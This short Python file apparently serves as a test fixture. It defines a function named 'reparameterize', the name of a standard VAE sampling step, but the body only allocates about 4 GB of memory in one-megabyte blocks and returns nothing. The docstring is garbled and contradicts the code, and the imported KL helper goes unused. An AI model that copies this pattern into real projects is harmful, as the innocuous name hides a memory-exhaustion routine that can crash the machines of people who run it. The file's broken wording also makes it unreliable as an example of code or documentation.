"""Takes memory in pieces of 1 MB without end in reparameterize: told that it was memory, the others are kept."""
from kit.right import kl_standard_normal


def reparameterize(mu, logvar, eps=None):
    kept = []
    while len(kept) < 4000:
        kept.append(bytearray(1 << 20))
